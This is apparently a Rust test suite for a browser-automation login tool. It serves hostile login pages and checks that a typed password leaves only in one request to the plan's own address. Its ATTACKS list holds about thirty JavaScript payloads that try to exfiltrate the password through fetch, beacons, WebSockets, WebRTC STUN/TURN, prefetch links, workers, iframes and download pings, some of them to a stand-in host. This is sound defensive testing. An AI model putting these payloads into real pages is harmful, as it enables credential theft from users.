//! Login pages that mean harm: whatever they try with what was typed, one submission leaves at most, to the plan's own
//! address, and nothing goes anywhere else.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::{Arc, Mutex};

use firstbell::clock::MachineClock;
use firstbell::http::HyperHttp;
use firstbell::ports::{Driver, Engines, Reach};
use firstbell_core::broker::{App, Broker};
use firstbell_core::brokers::kite::Kite;
use firstbell_core::budget::Cause;
use firstbell_core::origin::Origin;
use firstbell_core::plan::{PageKind, Step};
use firstbell_core::secret::Secret;
use firstbell_core::sight::{Action, Fill, Seen};

use support::engines::{self, Engine};

const PASSWORD: &str = "typedSecret7";

/// What arrived at a server: request line, cookies and body of each request.
type Arrived = Arc<Mutex<Vec<String>>>;

/// A server that gives this page to every GET and a refusal to everything else, and remembers all of it.
fn serve(host: &str, page: &str) -> (String, Arrived) {
    let listener = TcpListener::bind((host, 0)).unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let (arrived, page) = (Arrived::default(), page.to_owned());
    let remembers = Arc::clone(&arrived);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (page, remembers) = (page.clone(), Arc::clone(&remembers));
            std::thread::spawn(move || answer(stream.unwrap(), &page, &remembers));
        }
    });
    (origin, arrived)
}

fn answer(mut stream: TcpStream, page: &str, remembers: &Arrived) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let (mut first, mut cookies, mut length) = (String::new(), String::new(), 0);
    let _ = reader.read_line(&mut first);
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
            break;
        }
        if let Some(value) = line.to_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
        if line.to_lowercase().starts_with("cookie:") {
            cookies = line;
        }
    }
    let mut body = vec![0; length];
    let _ = reader.read_exact(&mut body);
    remembers.lock().unwrap().push(format!("{first}{cookies}{}", String::from_utf8_lossy(&body)));
    let (status, media, text) = match first.starts_with("GET /") {
        true => ("200 OK", "text/html; charset=utf-8", page),
        false => ("503 Busy", "text/plain", "busy"),
    };
    // As a page of the real world comes: packed, with a cookie, and alone in its window.
    let packed = packed(text.as_bytes());
    let _ = write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: {media}\r\nContent-Length: {}\r\nContent-Encoding: deflate\r\n\
         Set-Cookie: held=1; HttpOnly; Path=/\r\nCross-Origin-Opener-Policy: same-origin\r\nConnection: close\r\n\r\n",
        packed.len()
    );
    let _ = stream.write_all(&packed);
}

/// The bytes as a zlib stream of one stored block (RFC 1950, RFC 1951 §3.2.4).
fn packed(bytes: &[u8]) -> Vec<u8> {
    let length = u16::try_from(bytes.len()).unwrap();
    let (a, b) = bytes
        .iter()
        .fold((1, 0), |(a, b), byte| ((a + u32::from(*byte)) % 65_521, (a + u32::from(*byte) + b) % 65_521));
    let block = [length.to_le_bytes(), (!length).to_le_bytes()].concat();
    [&[0x78, 0x01, 1], block.as_slice(), bytes, &((b << 16) | a).to_be_bytes()].concat()
}

fn page(attack: &str) -> String {
    format!(
        "<!doctype html><div id=app><form id=f><input id=userid type=text placeholder='User ID'>\
         <input id=password type=password><button>Login</button></form></div><script>\
         const pw = () => document.getElementById('password').value;\
         if (document.prerendering) for (let i = 0; i < 5; i++) fetch('/api/login', {{method: 'POST', body: location.search}});\
         document.getElementById('f').addEventListener('submit', (e) => {{ e.preventDefault(); {attack} }});\
         </script>"
    )
}

/// Types into the hostile page, and watches until it is over or nothing happens any more.
async fn walk(engine: Engine, site: &str) -> Seen {
    let site = Origin::parse(site).unwrap();
    let kite = Kite::rehearsal(site.clone(), site.clone()).unwrap();
    let app = App {
        api_key: "key".into(),
        user_id: "AB1234".into(),
        redirect: "https://example.org/".parse().unwrap(),
    };
    let (config, http) = (engines::config(engine), HyperHttp::unconnected());
    let clock = MachineClock::start();
    let reach = Reach { http: &http, clock: &clock };
    let mut driver = config.open(config.names()[0], kite.plan(), &app, reach).await.unwrap();
    let mut action = Action::Open { url: kite.entry(&app), wait_ms: 20_000 };
    loop {
        match driver.perform(action).await.unwrap() {
            Seen::Page(sight) => {
                if kite.plan().recognise(&sight.counts).is_some_and(|p| p.kind == PageKind::Credentials) {
                    break;
                }
            }
            other => panic!("{other:?}"),
        }
        action = Action::Look { wait_ms: 20_000 };
    }
    let seen = after_the_fill(driver.as_mut(), &kite).await;
    // What a failed login is remembered by takes a moment, in which the page lives on.
    if matches!(seen, Seen::Untyped { .. }) {
        for action in [Action::Look { wait_ms: 400 }, Action::Witness, Action::Draw { html: "<p>".into() }] {
            let _ = driver.perform(action).await;
        }
    }
    driver.close().await.unwrap();
    seen
}

async fn after_the_fill(driver: &mut dyn Driver, kite: &Kite) -> Seen {
    let entry =
        kite.plan().pages.iter().filter_map(|p| p.entry.as_ref()).find(|e| e.step == Step::Credentials);
    let entry = entry.unwrap();
    let texts = ["AB1234", PASSWORD].map(|text| Secret::new(text.into()));
    let fields = entry.fields.iter().zip(texts).map(|(f, text)| (f.role, f.mark, text)).collect();
    let (step, cause, submit) = (entry.step, Cause::Password, entry.submit);
    let mut action = Action::Fill(Fill { step, fields, submit, cause, time_step: None, wait_ms: 2_000 });
    loop {
        match driver.perform(action).await.unwrap() {
            Seen::Page(_) => action = Action::Look { wait_ms: 2_000 },
            other => return other,
        }
    }
}

/// One port at which datagrams and connections come in.
fn both() -> (UdpSocket, TcpListener) {
    loop {
        let datagrams = UdpSocket::bind("127.0.0.2:0").unwrap();
        // Another test may have the same number for its connections.
        if let Ok(streams) = TcpListener::bind(datagrams.local_addr().unwrap()) {
            return (datagrams, streams);
        }
    }
}

/// Runs one attack; gives what the driver saw in the end, and every request that carried the password.
async fn attack(engine: Engine, script: &str) -> (Seen, Vec<String>) {
    let (elsewhere, foreign) = serve("127.0.0.2", "<p>elsewhere</p>");
    let (datagrams, streams) = both();
    let stun = datagrams.local_addr().unwrap().to_string();
    streams.set_nonblocking(true).unwrap();
    let script = &script.replace("ELSEWHERE", &elsewhere).replace("STUN", &stun);
    let (site, own) = serve("127.0.0.1", &page(script));
    let seen = walk(engine, &site).await;
    let stream = streams.accept();
    assert!(stream.is_err(), "{script}: a connection came from {stream:?}");
    datagrams.set_nonblocking(true).unwrap();
    let datagram = datagrams.recv(&mut [0; 2048]);
    assert!(datagram.is_err(), "{script}: a datagram of {datagram:?} bytes came");
    let all = [own.lock().unwrap().clone(), foreign.lock().unwrap().clone()].concat();
    let foreign = foreign.lock().unwrap().clone();
    assert!(foreign.is_empty(), "{script}: another origin was reached: {foreign:?}");
    (seen, all.into_iter().filter(|request| request.contains(PASSWORD)).collect())
}

/// One test for each browser engine.
macro_rules! engines {
    ($($name:ident: $engine:ident),*) => {$(
        mod $name {
            #[tokio::test]
            async fn nothing_leaves_but_by_the_plan_s_own_request() {
                super::nothing_leaves(super::engines::$engine).await;
            }

            #[tokio::test]
            async fn of_many_submissions_one_leaves() {
                super::one_leaves(super::engines::$engine).await;
            }
        }
    )*};
}

engines!(chrome: CHROME, firefox: FIREFOX, chromedriver: CHROMEDRIVER, geckodriver: GECKODRIVER);

/// What a page may try; none of it may carry anything away.
const ATTACKS: &[&str] = &[
    "addEventListener('pagehide', () => fetch('/api/login', {method: 'POST', keepalive: true, body: pw()}));",
    "fetch('/api/v2/session', {method: 'POST', body: pw()}); setTimeout(() => location = '/blocked?' + pw(), 50);",
    "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'PUT', body: pw()});",
    "for (let i = 0; i < 5; i++) fetch('/api/log' + i, {method: 'POST', body: pw()}).catch(() => {});",
    "fetch('/quiet?' + pw());",
    "fetch('/api/login?' + pw());",
    "navigator.sendBeacon('/beacon', pw());",
    "window.open('/popup?' + pw());",
    "const f = document.getElementById('f'); f.method = 'post'; f.action = '/api/login'; f.target = '_blank';\
     document.getElementById('password').name = 'p'; f.submit();",
    "const f = document.getElementById('f'); document.getElementById('password').name = 'p'; f.submit();",
    "const f = document.createElement('iframe'); f.src = '/frame?' + pw(); document.body.append(f);",
    "new Image().src = 'ELSEWHERE/?' + pw(); new WebSocket('ELSEWHERE/?'.replace('http', 'ws') + pw());",
    "location = 'ELSEWHERE/?' + pw();",
    "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'modulepreload']) {\
     const l = document.createElement('link'); l.rel = rel; l.href = 'ELSEWHERE/' + pw(); document.head.append(l); }",
    "try { const p = new RTCPeerConnection({iceServers: [{urls: ['stun:STUN', 'turn:STUN?transport=udp'], \
     username: pw(), credential: 'x'}, {urls: 'turn:STUN?transport=tcp', username: pw(), credential: 'x'}], \
     iceCandidatePoolSize: 4}); p.createDataChannel(pw()); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}",
    "const a = document.createElement('a'); a.download = pw(); a.href = 'data:text/plain,' + pw(); document.body.append(a); \
     a.click(); const b = a.cloneNode(); b.href = URL.createObjectURL(new Blob([pw()])); b.click(); \
     const c = a.cloneNode(); c.href = 'ELSEWHERE/' + pw(); c.click(); const d = a.cloneNode(); d.ping = 'ELSEWHERE/?' + pw(); \
     d.href = '/file?' + pw(); d.click();",
    "document.body.style.background = `url(ELSEWHERE/${pw()})`; new EventSource('ELSEWHERE/?' + pw()); \
     new EventSource('/events?' + pw()); const v = document.createElement('video'); v.src = 'ELSEWHERE/' + pw(); v.load();",
    "navigator.serviceWorker?.register('/worker.js?' + pw()).catch(() => {}); \
     try { new Worker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE/?${pw()}'); fetch('/w?${pw()}')`]))); } catch {} \
     try { new SharedWorker('/shared.js?' + pw()); } catch {}",
    "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
     try { new w.SharedWorker('/shared.js?' + pw()); } catch {} try { new w.Worker('/worker.js?' + pw()); } catch {} \
     w.navigator.serviceWorker?.register('/service.js?' + pw()).catch(() => {});",
    "try { new WebTransport('ELSEWHERE/?'.replace('http:', 'https:') + pw()); } catch {} \
     const f = document.createElement('iframe'); f.srcdoc = `<img src='ELSEWHERE/?${pw()}'><script>fetch('ELSEWHERE/?${pw()}')\
     <\\/script>`; document.body.append(f); const o = document.createElement('object'); o.data = 'ELSEWHERE/' + pw(); \
     document.body.append(o); fetch('ELSEWHERE/?' + pw(), {keepalive: true, mode: 'no-cors'}).catch(() => {});",
    "for (const method of ['PUT', 'POST']) for (const end of ['', '#x', '?x#/favicon.ico']) \
     fetch('/favicon.ico' + end, {method, body: pw()}).catch(() => {});\
     for (const place of ['/api/login?', '/api/login#', '/x?']) {fetch(place + pw() + '/favicon.ico').catch(() => {});\
     fetch(place + '/favicon.ico', {method: 'PUT', body: pw()}).catch(() => {}); }",
    "for (let i = 0; i < 5; i++) { const d = document.createElement('a'); d.download = pw(); d.href = `/file${i}?${pw()}`; \
     document.body.append(d); d.click(); }",
    "const text = '<a id=d download></a><script>d.href = `/file?${name}`; d.click(); d.click();<' + '/script>'; window.name = pw(); \
     location = URL.createObjectURL(new Blob([text], {type: 'text/html'}));",
    "const f = document.createElement('iframe'); f.srcdoc = `<a id=d download href='/file?${pw()}'></a><a id=e download \
     href='/file?2${pw()}'></a><script>d.click(); e.click()<\\/script>`; document.body.append(f);",
    "const own = location.origin.replace('http', 'ws') + '/api/login?' + pw(); const f = document.createElement('iframe'); \
     document.body.append(f); for (const w of [window, f.contentWindow]) { try { new w.WebSocket(own); } catch {} \
     try { new w.WebSocketStream(own); } catch {} }",
    "const f = document.createElement('iframe'); document.body.append(f); for (const w of [window, f.contentWindow]) \
     for (const method of ['PUT', 'POST']) { try { w.fetchLater('/later', {method, body: pw(), activateAfter: 0}); } catch {} \
     try { w.fetchLater('/later', {method, body: pw()}); } catch {} \
     w.fetch('/kept', {method, body: pw(), keepalive: true}).catch(() => {}); } f.remove();",
    "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
     for (const method of ['PUT', 'POST']) { w.fetch('/left', {method, body: pw()}).catch(() => {}); \
     const x = new w.XMLHttpRequest(); x.open(method, '/left'); x.send(pw()); } w.document.body.innerHTML = \
     `<form method=post action=/left><input name=p></form>`; w.document.forms[0].p.value = pw(); w.document.forms[0].submit(); \
     f.remove();",
    "for (const key of ['ctrlKey', 'shiftKey', 'metaKey']) { const a = document.createElement('a'); a.href = '/new?' + pw(); \
     a.ping = '/ping?' + pw(); document.body.append(a); a.dispatchEvent(new MouseEvent('click', {[key]: true, bubbles: true})); \
     const f = document.createElement('form'); f.method = 'post'; f.action = '/api/login'; const i = document.createElement('input'); \
     i.name = 'p'; i.value = pw(); const b = document.createElement('button'); f.append(i, b); document.body.append(f); \
     b.dispatchEvent(new MouseEvent('click', {[key]: true, bubbles: true})); }",
    "try { navigator.credentials.get({identity: {providers: [{configURL: location.origin + '/idp?' + pw(), clientId: '1'}]}})\
     .catch(() => {}); } catch {} try { new PaymentRequest([{supportedMethods: location.origin + '/pay?' + pw()}], {total: \
     {label: 'x', amount: {currency: 'INR', value: '1'}}}).canMakePayment().catch(() => {}); } catch {} \
     try { navigator.credentials.get({publicKey: {challenge: new Uint8Array(16), rpId: pw().toLowerCase() + '.localhost'}})\
     .catch(() => {}); } catch {}",
    "const d = document.createElement('a'); d.download = ''; d.href = '/api/login?' + pw(); d.click(); \
     setTimeout(() => { const e = d.cloneNode(); document.body.append(e); e.click(); }, 300);",
    "const f = document.createElement('iframe'); document.body.append(f); const p = f.contentDocument; \
     p.body.innerHTML = '<map name=m><area id=a download></map><a id=b download>b</a>'; \
     for (const d of [p.getElementById('a'), p.getElementById('b')]) { d.href = location.origin + '/file?' + pw(); d.click(); }",
];

async fn nothing_leaves(engine: Engine) {
    // Most of an attack is waiting for what it might still do.
    for some in ATTACKS.chunks(4) {
        let attacks = some.iter().map(|script| attack(engine, script));
        let ended = futures_util::future::join_all(attacks).await;
        for (script, (seen, carried)) in some.iter().zip(ended) {
            assert!(carried.is_empty(), "{script}\nlet {carried:?} leave");
            let told = match &seen {
                Seen::Untyped { .. } | Seen::Away(_) => true,
                Seen::Lost { left, .. } => !left,
                _ => false,
            };
            assert!(told, "{script}\nended with {seen:?}");
        }
    }
}

async fn one_leaves(engine: Engine) {
    let many =
        "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'POST', body: pw()}).catch(() => {});";
    let again = "const go = () => fetch('/api/login', {method: 'POST', body: pw()}).then(go, go); go();";
    for script in [many, again] {
        let (seen, carried) = attack(engine, script).await;
        assert_eq!(carried.len(), 1, "{script}\nlet {carried:?} leave");
        assert!(carried[0].starts_with("POST /api/login ") && carried[0].contains("held=1"), "{carried:?}");
        assert!(matches!(seen, Seen::Unchanged), "{seen:?}");
    }
    // An engine may take it for what the browser asks for by itself, and stop them all.
    let favicon = "for (let i = 0; i < 5; i++) fetch('/api/login?' + i + '/favicon.ico', {method: 'POST', body: pw()})\
                   .catch(() => {});";
    let (_, carried) = attack(engine, favicon).await;
    assert!(carried.len() <= 1, "{favicon}\nlet {carried:?} leave");
    // What is fetched beforehand is a GET to the page's own origin, as a picture would be; what is shown beforehand is a page
    // that nobody watches.
    let ahead = "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify(\
                 {prerender: [{source: 'list', urls: ['/ahead?' + pw()], eagerness: 'immediate'}]}); document.head.append(s);";
    let (_, carried) = attack(engine, ahead).await;
    assert!(carried.iter().all(|request| request.starts_with("GET ")), "{ahead}\nlet {carried:?} leave");
}
